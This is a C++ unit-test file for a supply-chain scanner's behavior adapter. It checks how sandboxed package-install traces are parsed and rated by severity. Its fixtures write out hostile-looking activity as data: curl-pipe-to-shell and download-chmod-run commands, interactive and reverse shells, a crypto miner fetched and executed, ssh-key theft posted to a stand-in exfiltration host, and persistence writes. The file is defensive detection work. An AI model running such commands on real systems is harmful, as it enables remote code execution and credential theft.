// The behavior scanner's adapter (adapters/scanners/behavior.h): its plan as data, its reading
// of batlehub-behavior's trace as hostile bytes, and how the trace is weighed
// (docs/verdicts.md, "behavior"). The detonations themselves are tests/behavior.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "adapters/sandbox/blob.h"
#include "adapters/scanners/behavior.h"

namespace batlehub::adapters {
namespace {

using nlohmann::json;

std::string trace_of(json events, json phases = json::array()) {
  if (phases.empty()) {
    phases = json::array({{{"phase", "prepare"}, {"exit_code", 0}, {"started", true}, {"timed_out", false}},
                          {{"phase", "install"}, {"exit_code", 0}, {"started", true}, {"timed_out", false}}});
  }
  return json{{"behavior", 1}, {"ecosystem", "pypi"}, {"home", "/work/home"}, {"phases", phases}, {"events", events}}
      .dump();
}

// rule → severity of each finding the trace weighs to.
std::map<std::string, core::Severity> weigh(const std::string& doc) {
  auto t = parse_behavior_output(doc);
  EXPECT_TRUE(t) << (t ? "" : t.error().message);
  std::map<std::string, core::Severity> out;
  if (!t) return out;
  for (const core::Finding& f : weigh_behavior(*t, "behavior")) out[*f.reference] = f.severity;
  return out;
}

using S = core::Severity;

TEST(BehaviorWeigh, a_canary_sent_is_critical_and_the_decoy_read_before_it_high) {
  auto got = weigh(
      trace_of(json::array({{{"kind", "decoy-open"},
                             {"phase", "install"},
                             {"decoy", "ssh-key"},
                             {"path", "/work/home/.ssh/id_rsa"},
                             {"resolved", "/work/home/.ssh/id_rsa"}},
                            {{"kind", "dns"}, {"phase", "install"}, {"host", "collect.exfil.test"}, {"qtype", "A"}},
                            {{"kind", "connect"},
                             {"phase", "install"},
                             {"family", "inet"},
                             {"address", "127.77.0.1"},
                             {"port", 80},
                             {"host", "collect.exfil.test"}},
                            {{"kind", "stream"},
                             {"phase", "install"},
                             {"protocol", "http"},
                             {"request_line", "POST /k HTTP/1.1"},
                             {"host", "collect.exfil.test"},
                             {"port", 80},
                             {"bytes", 300},
                             {"canary", true}}})));
  EXPECT_EQ(got, (std::map<std::string, S>{{"behavior-canary-sent", S::kCritical},
                                           {"behavior-token-store-read", S::kHigh},
                                           {"behavior-network-at-install", S::kMedium}}));
}

TEST(BehaviorWeigh, host_identity_in_a_dns_name_at_install_is_high) {
  auto got = weigh(trace_of(json::array(
      {{{"kind", "dns"}, {"phase", "install"}, {"host", "builder.x.dns.exfil.test"}, {"identity", true}}})));
  EXPECT_EQ(got, (std::map<std::string, S>{{"behavior-identity-sent", S::kHigh},
                                           {"behavior-network-at-install", S::kMedium}}));
}

TEST(BehaviorWeigh, what_the_venv_s_preparation_and_a_phase_s_own_program_do_is_never_a_finding) {
  auto got = weigh(trace_of(json::array(
      {{{"kind", "exec"}, {"phase", "prepare"}, {"path", "/usr/bin/python3"}, {"argv", {"python3", "-m", "venv"}}},
       {{"kind", "exec"},
        {"phase", "install"},
        {"what", "phase"},
        {"path", "/bin/sh"},
        {"argv", {"sh", "-c", "curl http://x.test/a | sh"}}},
       {{"kind", "dns"}, {"phase", "prepare"}, {"host", "pypi.org"}}})));
  EXPECT_TRUE(got.empty());
}

TEST(BehaviorWeigh, a_command_line_a_package_started_is_judged_as_the_shell_would_read_it) {
  auto got = weigh(trace_of(
      json::array({{{"kind", "exec"},
                    {"phase", "import"},
                    {"path", "/bin/sh"},
                    {"argv", {"sh", "-c", "curl -s http://miner.test/x -o /tmp/x && chmod +x /tmp/x && /tmp/x"}}},
                   {{"kind", "exec"}, {"phase", "import"}, {"path", "/bin/sh"}, {"argv", {"/bin/sh", "-i"}}}})));
  EXPECT_EQ(got.count("behavior-shell-download-executed"), 1U);
  EXPECT_EQ(got.at("behavior-interactive-shell"), S::kHigh);
  // A shell given nothing to run reads its commands from its input: a reverse shell's when
  // that input is a connection or a terminal the package made (pty.spawn("/bin/sh")), a build
  // script's when it is a pipe (autoconf's configure feeds /bin/sh so). -i is a human's shell
  // whatever its input; a shell given a script or -c reads no commands from its input.
  auto shell = [](std::vector<std::string> argv, std::string input) {
    json e = {{"kind", "exec"}, {"phase", "install"}, {"path", "/bin/sh"}, {"argv", argv}};
    if (!input.empty()) e["stdin"] = input;
    return weigh(trace_of(json::array({e}))).count("behavior-interactive-shell");
  };
  EXPECT_EQ(shell({"/bin/sh"}, "socket"), 1U);
  EXPECT_EQ(shell({"bash", "-l"}, "terminal"), 1U);
  EXPECT_EQ(shell({"sh", "-s"}, "socket"), 1U);
  EXPECT_EQ(shell({"sh", "-i"}, ""), 1U);
  EXPECT_EQ(shell({"/bin/sh"}, ""), 0U) << "a pipe or /dev/null: configure feeding a shell";
  EXPECT_EQ(shell({"sh", "build.sh"}, "socket"), 0U);
  EXPECT_EQ(shell({"bash", "-e", "-c", "make"}, "terminal"), 0U);
}

TEST(BehaviorWeigh, a_program_fetched_and_run_is_high_and_written_without_a_fetch_medium) {
  const json run = {{"kind", "exec"},
                    {"phase", "install"},
                    {"path", "/work/tmp/xmrig"},
                    {"argv", {"/work/tmp/xmrig"}},
                    {"resolved", "/work/tmp/xmrig"},
                    {"written", true}};
  const json fetch = {{"kind", "stream"},   {"phase", "install"},
                      {"protocol", "http"}, {"request_line", "GET /xmrig HTTP/1.1"},
                      {"bytes", 80},        {"host", "dl.test"}};
  EXPECT_EQ(weigh(trace_of(json::array({fetch, run}))).at("behavior-downloaded-program-run"), S::kHigh);
  EXPECT_EQ(weigh(trace_of(json::array({run}))).at("behavior-written-program-run"), S::kMedium);
  // pip's own console scripts are written into the venv's bin by the install itself.
  json script = run;
  script["resolved"] = "/work/venv/bin/tool";
  EXPECT_EQ(weigh(trace_of(json::array({fetch, script}))).count("behavior-downloaded-program-run"), 0U);
}

TEST(BehaviorWeigh, persistence_is_a_write_where_a_login_a_boot_or_an_interpreter_start_reads) {
  for (const char* p : {"/work/home/.bashrc", "/work/home/.config/autostart/x.desktop", "/etc/cron.d/x",
                        "/usr/lib/python3/dist-packages/zz.pth"}) {
    auto got = weigh(trace_of(json::array({{{"kind", "write"}, {"phase", "install"}, {"path", p}, {"resolved", p}}})));
    EXPECT_EQ(got.count("behavior-persistence-written"), 1U) << p;
  }
  auto tmp = weigh(trace_of(json::array(
      {{{"kind", "write"}, {"phase", "install"}, {"path", "/tmp/build.log"}, {"resolved", "/tmp/build.log"}}})));
  EXPECT_TRUE(tmp.empty());
}

TEST(BehaviorWeigh, a_tool_s_credential_file_read_is_medium_and_a_local_server_is_not_network) {
  auto got = weigh(trace_of(json::array(
      {{{"kind", "decoy-open"}, {"phase", "install"}, {"decoy", "npm-token"}, {"resolved", "/work/home/.npmrc"}},
       {{"kind", "connect"}, {"phase", "import"}, {"family", "inet"}, {"address", "127.0.0.1"}, {"port", 8080}}})));
  EXPECT_EQ(got, (std::map<std::string, S>{{"behavior-credential-file-read", S::kMedium}}));
}

TEST(BehaviorOutput, what_is_not_the_trace_is_refused_with_a_reason) {
  for (const std::string& bad : {std::string("not json"), std::string("{\"behavior\":2,\"phases\":[],\"events\":[]}"),
                                 std::string("{\"behavior\":1,\"phases\":{},\"events\":[]}"),
                                 std::string("{\"behavior\":1,\"phases\":[],\"events\":[1]}"),
                                 // fuzz_behavior_trace's first find: a version that is not a number threw
                                 std::string("{\"behavior\": []}")}) {
    auto t = parse_behavior_output(bad);
    ASSERT_FALSE(t) << bad;
    EXPECT_EQ(t.error().kind, core::ScannerError::Kind::kOutput) << bad;
  }
  json many = json::array();
  for (std::size_t i = 0; i <= kBehaviorMaxEvents; ++i) many.push_back({{"kind", "exec"}, {"phase", "install"}});
  auto t = parse_behavior_output(trace_of(many));
  ASSERT_FALSE(t);
  EXPECT_NE(t.error().message.find("over the bound"), std::string::npos);
  // A field is kept to its bound, whatever the package made it.
  auto long_field = parse_behavior_output(
      trace_of(json::array({{{"kind", "dns"}, {"phase", "install"}, {"host", std::string(100000, 'a')}}})));
  ASSERT_TRUE(long_field);
  EXPECT_EQ(long_field->events[0].host.size(), kBehaviorMaxField);
}

TEST(BehaviorPlan, npm_is_extracted_pypi_placed_as_it_is_and_other_kinds_are_not_detonated) {
  BehaviorScanner s({});
  core::ScanInput in;
  in.artifact = memory_blob("x", "x.tgz");
  in.package.kind = core::PackageKind::kNpm;
  auto npm = s.plan(in);
  ASSERT_TRUE(npm);
  EXPECT_EQ((*npm)[0].argv[1], "npm");
  EXPECT_EQ((*npm)[0].argv[2], "pkg");
  EXPECT_FALSE((*npm)[0].network);
  EXPECT_EQ((*npm)[0].bundle.entries[0].kind, wire::EntryKind::kArchive);
  in.package.kind = core::PackageKind::kPypi;
  auto pypi = s.plan(in);
  ASSERT_TRUE(pypi);
  EXPECT_EQ((*pypi)[0].argv[2], "in/artifact");
  EXPECT_EQ((*pypi)[0].bundle.entries[0].kind, wire::EntryKind::kFile);
  in.package.kind = core::PackageKind::kCargo;
  EXPECT_FALSE(s.supports(core::PackageKind::kCargo));
  auto crate = s.plan(in);
  ASSERT_FALSE(crate);
  EXPECT_EQ(crate.error().kind, core::ScannerError::Kind::kUnsupported);
}

}  // namespace
}  // namespace batlehub::adapters
